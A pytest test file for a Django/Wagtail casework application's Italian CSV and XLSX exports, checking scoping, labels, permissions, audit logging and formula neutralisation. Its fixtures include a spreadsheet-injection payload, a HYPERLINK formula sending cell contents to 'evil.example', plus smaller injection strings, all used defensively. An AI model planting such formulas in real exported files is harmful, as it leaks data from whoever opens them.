"""Exports: XLSX and Italian CSV, scoped to the user's Comuni, formula cells neutralised on
every path (our resources and Wagtail's list export)."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from casework.cases.choices import TargetGroup
from casework.models import AuditEvent, Budget
from core.spreadsheets import neutralise
from network.choices import PathwayType
from tests import factories as f

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return b"".join(response)


def read_csv(response):
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Italian Excel"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(response):
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def referrals(comune_a, comune_b):
    own = f.ReferralFactory(
        protocol="P-A",
        beneficiary=f.BeneficiaryFactory(last_name=FORMULA, first_name="+39 333", phone="@SUM(1)"),
        reason="-2+3",
    )
    other = f.ReferralFactory(
        protocol="P-B",
        beneficiary=f.BeneficiaryFactory(last_name="Bianchi", residence_comune=comune_b),
    )
    return own, other


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+39 333", "'+39 333"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Rossi", "Rossi"),
        ("", ""),
        (-5, -5),
        (Decimal("-1.50"), Decimal("-1.50")),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_referral_csv_is_italian_scoped_and_neutralised(client, social_worker_a, referrals):
    client.force_login(social_worker_a)

    response = client.get(reverse("casework_imports:export", args=["referrals", "csv"]))

    today = timezone.localdate().strftime("%Y-%m-%d")
    assert response["Content-Disposition"] == f'attachment; filename="segnalazioni-{today}.csv"'
    rows = read_csv(response)
    assert rows[0][:4] == ["Protocollo", "Comune", "Data segnalazione", "Codice fiscale"]
    assert [r[0] for r in rows[1:]] == ["P-A"]  # Sarezzo's referral is not there
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Cognome"] == "'" + FORMULA
    assert row["Nome"] == "'+39 333"
    assert row["Telefono"] == "'@SUM(1)"
    assert row["Note"] == "'-2+3"
    assert row["Data segnalazione"] == "01/09/2016"
    # Choices by their labels, never the codes.
    assert row["Stato"] == "Ricevuta"
    assert row["Percorso proposto"] in {label for _code, label in PathwayType.choices}
    assert row["Sesso"] in {"Maschio", "Femmina"}
    event = AuditEvent.objects.get(action="export")
    assert event.user == social_worker_a


def test_referral_xlsx_has_typed_cells_and_no_formula(client, social_worker_a, referrals):
    client.force_login(social_worker_a)

    response = client.get(reverse("casework_imports:export", args=["referrals", "xlsx"]))

    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    assert workbook.sheetnames == ["Segnalazioni"]
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["Cognome"].data_type == "s"
    assert cells["Cognome"].value == "'" + FORMULA
    assert cells["Data segnalazione"].value == datetime.datetime(2016, 9, 1)
    assert cells["Data segnalazione"].number_format == "DD/MM/YYYY"
    assert cells["Stato"].value == "Ricevuta"
    assert sheet.max_row == 2


def test_an_export_can_be_imported_back_unchanged(client, tmp_path, programme_manager, comune_a):
    from django.core.management import call_command

    f.ReferralFactory(protocol="P-1", beneficiary=f.BeneficiaryFactory(target_group="giovane"))
    client.force_login(programme_manager)
    path = tmp_path / "export.xlsx"
    path.write_bytes(
        body(client.get(reverse("casework_imports:export", args=["referrals", "xlsx"])))
    )
    out = io.StringIO()

    call_command("import_referrals", str(path), stdout=out, stderr=io.StringIO())

    assert out.getvalue().strip() == "Righe create: 0, aggiornate: 0, invariate: 1"


def test_budget_export_has_committed_and_remaining(client, programme_manager, comune_a):
    edition = f.EditionFactory()
    Budget.objects.create(comune=comune_a, edition=edition, amount=Decimal("12500.50"))
    client.force_login(programme_manager)

    rows = read_csv(client.get(reverse("casework_imports:export", args=["budgets", "csv"])))
    assert rows == [
        ["Comune", "Edizione", "Importo", "Note", "Impegnato", "Residuo"],
        ["Lumezzane", "2016-2017", "12500,50", "", "0,00", "12500,50"],
    ]
    response = client.get(reverse("casework_imports:export", args=["budgets", "xlsx"]))
    today = timezone.localdate().strftime("%Y-%m-%d")
    assert response["Content-Disposition"].endswith(f'filename="budget-{today}.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    assert workbook.sheetnames == ["Budget"]
    assert workbook.active["C2"].value == 12500.5  # a number cell, not text
    assert workbook.active["C2"].number_format == "#,##0.00"


def test_export_needs_the_export_permission(client, agency_operator):
    client.force_login(agency_operator)

    response = client.get(reverse("casework_imports:export", args=["budgets", "csv"]))

    assert response.status_code == 302
    assert response.url == reverse("wagtailadmin_home")
    assert not AuditEvent.objects.filter(action="export").exists()


def test_people_and_vouchers_exports_open(client, social_worker_a, referrals):
    client.force_login(social_worker_a)

    people = read_xlsx(client.get(reverse("casework_imports:export", args=["people", "xlsx"])))
    vouchers = read_csv(client.get(reverse("casework_imports:export", args=["vouchers", "csv"])))

    assert [row[1] for row in people[1:]] == ["'" + FORMULA]
    assert people[0][:6] == [
        "Codice fiscale",
        "Cognome",
        "Nome",
        "Data nascita",
        "Sesso",
        "Comune di residenza",
    ]
    assert people[1][10] in {str(label) for _code, label in TargetGroup.choices}
    assert vouchers[0][0] == "Comune" and len(vouchers) == 1


def test_voucher_export_has_italian_labels(client, programme_manager):
    voucher = f.VoucherFactory()
    client.force_login(programme_manager)

    rows = read_csv(client.get(reverse("casework_imports:export", args=["vouchers", "csv"])))

    assert rows[0] == [
        "Comune", "Edizione", "Protocollo", "Codice fiscale", "Voce", "Quantità", "Netto", "IVA",
        "Lordo", "Stato", "Creato il",
    ]  # fmt: skip
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Voce"] == voucher.get_kind_display() and row["Voce"] != voucher.kind
    assert row["Stato"] == voucher.get_status_display() and row["Stato"] != voucher.status


def test_wagtail_list_export_is_neutralised_and_italian(client, social_worker_a, referrals):
    client.force_login(social_worker_a)
    listing = reverse("wagtailsnippets_casework_beneficiary:list")

    rows = read_csv(client.get(listing + "?export=csv"))
    assert len(rows) == 2  # header + the one person of Lumezzane
    assert "'" + FORMULA in rows[1]

    table = read_xlsx(client.get(listing + "?export=xlsx"))
    assert "'" + FORMULA in table[1]


def test_every_wagtail_list_export_is_neutralised_also_outside_casework(client, programme_manager):
    # Organisation names come from the public registration form: the likeliest injection.
    f.HostOrganisationFactory(name=FORMULA)
    client.force_login(programme_manager)
    listing = reverse("wagtailsnippets_network_hostorganisation:list")

    rows = read_csv(client.get(listing + "?export=csv"))
    table = read_xlsx(client.get(listing + "?export=xlsx"))

    assert "'" + FORMULA in rows[1]
    assert "'" + FORMULA in table[1]
